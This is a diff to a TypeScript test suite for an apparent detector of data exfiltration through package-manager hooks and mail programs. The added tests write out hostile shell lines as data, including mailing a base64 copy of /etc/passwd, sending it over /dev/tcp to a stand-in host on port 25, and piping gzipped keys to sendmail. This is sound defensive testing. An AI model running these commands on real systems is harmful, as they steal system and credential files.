@@ -52,6 +52,20 @@ test('the copy of a package manager that becomes the shell is not on record: the
   assert.ok((await told(log))?.factors.includes(HOOK));
 });
 
+test('words of other programs that look like the -c of a shell are none, and the shell of a hook may speak SMTP itself', async () => {
+  const toTwo = administrator();
+  const line = 'openssl base64 < /etc/passwd | mail -s x -c other@example.net drop@example.net';
+  const shell = toTwo.apt.run(['/bin/sh', '-c', line]);
+  shell.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x -c other@example.net ${TO}`);
+  toTwo.log.submitted('root', TO, 40_000);
+  assert.ok((await told(toTwo.log))?.factors.includes(HOOK), 'a copy for another');
+
+  const itself = administrator();
+  const speaks = itself.apt.run(['/bin/bash', '-c', 'exec 3<>/dev/tcp/203.0.113.25/25; cat /etc/passwd >&3']);
+  speaks.connect('203.0.113.25', 25);
+  assert.ok((await told(itself.log))?.factors.includes(HOOK), 'the shell itself');
+});
+
 test('a hook that mails a note to the administrator is what such hooks do', async () => {
   const { log, apt } = administrator();
   apt.run(['/bin/sh', '-c', '/usr/bin/apt-listchanges --apt']).run('/usr/sbin/sendmail root@example.org');
@@ -90,6 +104,28 @@ test('a recipe that only answers is mail software at its work', async () => {
   mail.exec(`/usr/sbin/sendmail -oi ${TO}`);
   log.submitted('clerk', TO, 3000);
   assert.equal(await told(log), null);
+});
+
+/** Mail software starts a program that packs a copy and sends the message on. `above` starts `words`; who sends is the last of them. */
+async function passedOn(above: string, words: string | readonly string[], by?: string) {
+  const log = new HostLog();
+  log.deliver();
+  const script = log.service(above).run(words, by === undefined ? {} : { by });
+  const [, mail] = script.pipeline('/usr/bin/gzip -c', `/usr/sbin/sendmail -G -i ${TO}`);
+  mail?.run('/usr/sbin/postdrop -r');
+  log.submitted('root', TO, 3000);
+  return told(log);
+}
+
+test('a program of the mail software that packs a copy of what it passes on sends nothing of its own', async () => {
+  const pipe = '/usr/lib/postfix/sbin/pipe -n filter';
+  const script = '/usr/lib/mail-archive/keep';
+  assert.equal(await passedOn(pipe, script), null, 'a program');
+  assert.equal(await passedOn(pipe, script, '/bin/sh'), null, 'a script');
+  const configured = '/usr/lib/dovecot/dovecot-lda -c /etc/dovecot/dovecot.conf';
+  assert.equal(await passedOn(configured, script, '/bin/sh'), null, 'below a program that has a -c of another kind');
+  const found = await passedOn(pipe, ['/bin/sh', '-c', `gzip -c keys | sendmail ${TO}`]);
+  assert.ok(found?.factors.includes(PACKED), 'a line of commands');
 });
 
 const BESIDE = 'again and again, beside somebody at a terminal';
